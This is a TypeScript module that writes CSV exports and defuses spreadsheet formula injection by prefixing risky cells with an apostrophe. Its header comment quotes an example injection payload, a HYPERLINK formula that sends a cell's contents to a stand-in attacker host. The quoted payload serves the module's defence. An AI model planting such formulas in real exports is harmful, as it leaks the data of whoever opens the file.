/**
 * The one CSV writer for every export (the API's streamed sales, the back office's codes). No Node or DOM
 * imports: the back office imports it too.
 *
 * A spreadsheet runs a cell that starts with `=`, `+`, `-` or `@` (and, in some apps, a tab or a carriage
 * return) as a formula, so a name such as `=HYPERLINK("http://evil.example/?leak="&A2)` typed by a buyer
 * would run on the organizer's machine. Such text is written with a leading apostrophe, which the
 * spreadsheet shows as plain text (OWASP's advice on CSV injection); plain numbers (`-10.45`) stay numbers.
 */

/** What makes a spreadsheet read a cell as a formula. Codes may not start with it either. */
const FORMULA_START = /^[=+\-@\t\r]/;
const PLAIN_NUMBER = /^-?\d+(\.\d+)?$/;
const NEEDS_QUOTES = /[",;\r\n]/;

/** Lines end in CRLF (RFC 4180); the document starts with a UTF-8 BOM so spreadsheets read accents right. */
export const CSV_EOL = '\r\n';
export const CSV_BOM = '\uFEFF';

/** Whether a text would be run as a formula by a spreadsheet if it opened a cell. */
export function startsLikeFormula(text: string): boolean {
  return FORMULA_START.test(text);
}

/** One cell: empty for null, ISO for dates, formulas defused, quoted when it holds a separator or quote. */
export function csvCell(value: unknown): string {
  if (value === null || value === undefined) return '';
  let s = value instanceof Date ? value.toISOString() : String(value);
  if (typeof value === 'string' && startsLikeFormula(s) && !PLAIN_NUMBER.test(s)) s = `'${s}`;
  return NEEDS_QUOTES.test(s) ? `"${s.replace(/"/g, '""')}"` : s;
}

/** One line of cells, without its end of line. */
export function csvRow(values: readonly unknown[]): string {
  return values.map(csvCell).join(',');
}

/** A whole document: BOM, header, rows, each line ended by CRLF. */
export function csvDocument(header: readonly string[], rows: readonly (readonly unknown[])[]): string {
  return `${CSV_BOM}${[header, ...rows].map((r) => `${csvRow(r)}${CSV_EOL}`).join('')}`;
}
